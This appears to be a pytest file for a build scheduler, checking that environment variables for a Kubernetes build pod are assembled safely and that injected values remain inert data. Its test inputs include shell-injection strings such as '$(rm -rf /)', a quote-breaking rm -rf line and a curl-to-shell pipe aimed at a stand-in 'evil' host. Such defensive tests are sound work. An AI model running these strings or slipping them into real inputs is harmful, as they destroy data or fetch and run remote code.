"""The build container's environment: Aftomato's variables win, no name twice, values as data."""

from collections.abc import Iterator
from typing import Any

import pytest

from aftomato.common.scripts.config import ProjectConfig
from aftomato.common.scripts.fields import AWS_VARIABLES
from aftomato.scheduler.manifests import AWS_CREDENTIALS, build_environment, build_pod
from tests.scheduler.samples import context, request

HOSTILE = ["$(rm -rf /)", "`id`", "'; rm -rf / #", '" && curl evil | sh', "a b;c|d&e>f", "${IFS}"]


def values(env: list[dict[str, Any]]) -> dict[str, Any]:
    return {variable["name"]: variable.get("value", variable.get("valueFrom")) for variable in env}


def test_the_build_variables() -> None:
    env = values(build_environment(request(), ProjectConfig(), context()))

    assert env["BUILD_ID"] == "0f3c9a"
    assert env["PROJECT_KEY"] == "group/sub/app"
    assert env["BRANCH_TO_BUILD"] == "feature/Login"
    assert "COMMIT_TO_BUILD" not in env
    assert "PULL_REQUEST" not in env
    assert env["AFTOMATO_BUILD_SCRIPTS_DIR"] == "/scripts"
    assert env["AFTOMATO_WORKSPACE"] == "/workspace"
    assert env["ARTIFACTS_DIR"] == "/artifacts"
    assert env["AFTOMATO_ARTIFACTS_BUCKET"] == "aftomato-build-artifacts"
    assert "AFTOMATO_AWS_ENDPOINT_URL" not in env
    assert env["AFTOMATO_KILL_GRACE_SECONDS"] == "10"


def test_commit_pull_request_and_endpoint_when_known() -> None:
    custom = context(
        aws={"AFTOMATO_AWS_ENDPOINT_URL": "http://moto:5000", "AFTOMATO_ARTIFACTS_BUCKET": "arts"},
        AFTOMATO_KILL_GRACE_SECONDS="30",
    )
    env = values(
        build_environment(request(commit="abc1234", pull_request=9), ProjectConfig(), custom)
    )

    assert env["COMMIT_TO_BUILD"] == "abc1234"
    assert env["PULL_REQUEST"] == "9"
    assert env["AFTOMATO_AWS_ENDPOINT_URL"] == "http://moto:5000"
    assert env["AFTOMATO_ARTIFACTS_BUCKET"] == "arts"
    assert env["AFTOMATO_KILL_GRACE_SECONDS"] == "30"


def test_aws_credentials_come_from_the_optional_secret() -> None:
    env = values(
        build_environment(request(), ProjectConfig(), context(AFTOMATO_BUILD_AWS_SECRET="s3"))
    )

    assert env["AWS_ACCESS_KEY_ID"] == {
        "secretKeyRef": {"name": "s3", "key": "aws-key", "optional": True}
    }
    assert env["AWS_SECRET_ACCESS_KEY"]["secretKeyRef"]["key"] == "aws-secret"
    assert env["AWS_DEFAULT_REGION"]["secretKeyRef"]["key"] == "region"
    assert set(AWS_CREDENTIALS) == AWS_VARIABLES  # what aftomato.yaml's env may not set


def test_parameters_win_over_project_env() -> None:
    config = ProjectConfig.model_validate({"env": {"MODE": "project", "ONLY_PROJECT": "1"}})
    built = request(parameters={"MODE": "parameter", "ONLY_PARAMETER": "2"})

    env = build_environment(built, config, context())

    assert values(env)["MODE"] == "parameter"
    assert values(env)["ONLY_PROJECT"] == "1"
    assert values(env)["ONLY_PARAMETER"] == "2"


def test_aftomatos_variables_win_even_over_unchecked_input() -> None:
    sneaky = {
        name: "overridden"
        for name in ["BUILD_ID", "BRANCH_TO_BUILD", "COMMIT_TO_BUILD", "PULL_REQUEST",
                     "ARTIFACTS_DIR", "AFTOMATO_WORKSPACE", "AFTOMATO_ANYTHING",
                     "AWS_ACCESS_KEY_ID", "AWS_DEFAULT_REGION"]
    }  # fmt: skip
    config = ProjectConfig.model_construct(env=sneaky)  # as if validation were bypassed
    built = request().model_copy(update={"parameters": sneaky})

    env = build_environment(built, config, context())
    names = [variable["name"] for variable in env]

    assert len(names) == len(set(names))
    assert "overridden" not in values(env).values()
    assert "AFTOMATO_ANYTHING" not in names
    assert "COMMIT_TO_BUILD" not in names  # unknown commit: not set at all, not taken from input


def test_the_order_is_aftomatos_first_then_the_rest_as_given() -> None:
    config = ProjectConfig.model_validate({"env": {"B": "1", "A": "2"}})

    names = [
        v["name"] for v in build_environment(request(parameters={"C": "3"}), config, context())
    ]

    assert names[:3] == ["BUILD_ID", "PROJECT_KEY", "BRANCH_TO_BUILD"]
    assert names[-3:] == ["B", "A", "C"]


def strings(node: Any, path: str = "") -> Iterator[tuple[str, str]]:
    """Every string in a manifest with its path (``spec.containers[0].env[3].value``)."""
    if isinstance(node, dict):
        for key, child in node.items():
            yield from strings(child, f"{path}.{key}")
    elif isinstance(node, list):
        for index, child in enumerate(node):
            yield from strings(child, f"{path}[{index}]")
    elif isinstance(node, str):
        yield path, node


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_values_are_only_env_values_and_annotations(hostile: str) -> None:
    built = request(
        branch=f"feature/{hostile}", project_key=f"group/{hostile}", parameters={"P": hostile}
    )
    config = ProjectConfig.model_validate({"env": {"E": hostile}})
    pod = build_pod(built, config, context())

    places = sorted(path for path, text in strings(pod) if "rm -rf" in text or hostile in text)

    assert places
    for path in places:
        assert path.endswith(".value") or path.startswith(".metadata.annotations."), path
    for container in pod["spec"]["initContainers"] + pod["spec"]["containers"]:
        command = " ".join(container.get("command", []) + container.get("args", []))
        assert hostile not in command
    assert all(
        "$" not in value and " " not in value for value in pod["metadata"]["labels"].values()
    )


@pytest.mark.parametrize("branch", ["x\ny", "x\rrm", "a\x00b", "../../etc"])
def test_control_characters_never_reach_a_pod(branch: str) -> None:
    with pytest.raises(ValueError, match="branch"):
        request(branch=branch)


def test_a_hostile_scripts_branch_is_one_argument() -> None:
    custom = context()
    custom = custom.__class__(
        pod=custom.pod,
        scripts=custom.scripts.model_copy(update={"branch": "x; rm -rf / #", "repo": "-u evil"}),
        aws=custom.aws,
        namespace=custom.namespace,
    )
    [scripts] = build_pod(request(), ProjectConfig(), custom)["spec"]["initContainers"]

    assert scripts["command"][-5:] == ["--branch", "x; rm -rf / #", "--", "-u evil", "/scripts"]
